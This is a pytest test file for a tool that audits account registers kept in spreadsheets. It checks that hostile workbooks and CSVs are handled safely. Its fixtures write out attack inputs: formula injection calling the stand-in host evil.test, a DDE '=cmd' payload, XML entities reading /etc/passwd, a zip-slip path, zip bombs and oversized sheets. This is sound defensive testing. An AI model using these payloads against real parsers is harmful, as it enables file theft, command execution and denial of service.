"""Whoever edits the sheet can make the audit wrong about their row, and nothing else: no formula runs, nothing is fetched, nothing grows."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from auditor.config import load
from auditor.errors import Problem
from auditor.register import read
from tests.effort import within
from tests.hostile import corpora
from tests.night.driving import house

HEADER = ("id", "platform", "handle", "unit")


def _settings(folder: Path, lines: str) -> Any:
    path = folder / "config.toml"
    path.write_text(f'[organisation]\nname = "U"\n[register]\n{lines}\n', encoding="utf-8")
    return load(path, {})


def _read(folder: Path, name: str) -> tuple[Any, tuple[Problem, ...]]:
    settings = _settings(folder, f'register = "{name}"' if name.endswith("xlsx") else f'accounts = "{name}"')
    return read(settings.register, settings.base_dir)


def _book(path: Path, rows: list[tuple[Any, ...]], **options: Any) -> None:
    with xlsxwriter.Workbook(path, {"constant_memory": True, **options}) as book:
        sheet = book.add_worksheet("Accounts")
        for number, row in enumerate([HEADER, *rows]):
            for column, cell in enumerate(row):
                if isinstance(cell, str) and cell.startswith("="):
                    sheet.write_formula(number, column, cell, None, 42)
                else:
                    sheet.write(number, column, cell)


def test_formulas_count_by_the_value_saved_with_them_and_are_never_worked_out(tmp_path: Path) -> None:
    _book(
        tmp_path / "r.xlsx",
        [
            ("a", "x", "handle", '=HYPERLINK("http://evil.test","x")'),
            ("b", "x", "h2", '=WEBSERVICE("http://evil.test")'),
        ],
    )
    register, problems = _read(tmp_path, "r.xlsx")
    assert [a.unit for a in register.accounts] == ["42", "42"]
    assert not [p for p in problems if p.stops]


def test_formula_texts_of_a_csv_are_texts(tmp_path: Path) -> None:
    lines = [
        ",".join(HEADER),
        *(f'a{n},x,h{n},"{t}"' for n, t in enumerate(t.replace('"', '""') for t in corpora.FORMULAS)),
    ]
    (tmp_path / "a.csv").write_text("\n".join(lines), encoding="utf-8")
    register, _ = _read(tmp_path, "a.csv")
    assert len(register.accounts) == len(corpora.FORMULAS)
    assert "=cmd|' /C calc'!A0" in {a.unit for a in register.accounts}


def test_links_to_other_workbooks_and_macros_are_not_followed(tmp_path: Path) -> None:
    _book(tmp_path / "plain.xlsx", [("a", "x", "h", "U")])
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as plain, zipfile.ZipFile(tmp_path / "r.xlsx", "w") as other:
        for name in plain.namelist():
            other.writestr(name, plain.read(name))
        other.writestr(
            "xl/externalLinks/externalLink1.xml", '<externalLink xmlns:r="x"><externalBook r:id="rId1"/></externalLink>'
        )
        other.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships><Relationship Id="rId1" Target="http://127.0.0.1:1/x" TargetMode="External"/></Relationships>',
        )
        other.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
        other.writestr("../../outside.txt", b"x")
        other.writestr("xl/entities.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>')
    register, _ = _read(tmp_path, "r.xlsx")
    assert [a.id for a in register.accounts] == ["a"]
    assert {p.name for p in tmp_path.iterdir()} == {"plain.xlsx", "r.xlsx", "config.toml"}


def test_entities_in_a_workbook_open_no_file(tmp_path: Path) -> None:
    _book(tmp_path / "plain.xlsx", [("a", "x", "h", "U")])
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as plain, zipfile.ZipFile(tmp_path / "r.xlsx", "w") as other:
        for name in plain.namelist():
            data = plain.read(name)
            if name.endswith("sharedStrings.xml") or "sheet1" in name:
                data = data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>', 1).replace(
                    b">U<", b">&y;<"
                )
            other.writestr(name, data)
    try:
        register, problems = _read(tmp_path, "r.xlsx")
    except Exception as error:  # noqa: BLE001 - whatever it is, it must be ours
        pytest.fail(f"{type(error).__name__} came through")
    hostname = Path("/etc/hostname").read_text(encoding="utf-8").strip() if Path("/etc/hostname").exists() else "-"
    assert hostname not in {a.unit for a in register.accounts}
    assert register.accounts or problems


@pytest.mark.parametrize(
    ("rows", "columns"), [(1_000_000, 4), (3, 10_000)], ids=["a million rows", "ten thousand columns"]
)
def test_a_sheet_far_too_large_is_refused_in_time(rows: int, columns: int, tmp_path: Path) -> None:
    with (tmp_path / "a.csv").open("w", encoding="utf-8") as file:
        file.write(",".join([*HEADER, *("c" * 3 for _ in range(columns - 4))]) + "\n")
        file.writelines(f"a{n},x,h,U\n" for n in range(rows))
    with within(2):
        _, problems = _read(tmp_path, "a.csv")
    assert [p for p in problems if p.stops]


def test_a_cell_of_megabytes_neither_stops_reading_nor_fills_the_answer(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(
        f"{','.join(HEADER)}\na,x,h,{'U' * 3_000_000}\nb,nothing,{'h' * 300_000},U\n", encoding="utf-8"
    )
    _, problems = _read(tmp_path, "a.csv")
    assert problems
    assert sum(len(str(p)) for p in problems) < 5_000


@corpora.needs_collection
def test_the_collected_workbook_bomb_is_refused(tmp_path: Path) -> None:
    (tmp_path / "r.xlsx").write_bytes(corpora.content("gen-xlsx-bomb-500MiB.xlsx"))
    _, problems = _read(tmp_path, "r.xlsx")
    assert [p for p in problems if p.stops]


def test_zip_tricks_are_refused_in_words(tmp_path: Path) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(6_000):
            archive.writestr(f"xl/{number}", b"")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    whole = stream.getvalue()
    for data in (
        whole,
        whole[:-30],
        whole[100:],
        b"PK\x05\x06" + b"\0" * 18,
        b"PK\x03\x04" + b"\xff" * 400,
        b"PK",
        b"\xd0\xcf\x11\xe0" + b"\0" * 600,
    ):
        (tmp_path / "r.xlsx").write_bytes(data)
        _, problems = _read(tmp_path, "r.xlsx")
        assert [p for p in problems if p.stops]


def test_the_run_remembers_which_register_it_judged(tmp_path: Path) -> None:
    with house(tmp_path / "house") as home:
        home.auditor("run", "--no-mail")
        about = (home.reports / "about.html").read_text(encoding="utf-8")
        settings = load(home.config, home.environment())
        register, _ = read(settings.register, settings.base_dir)
        assert register.sha256 in about
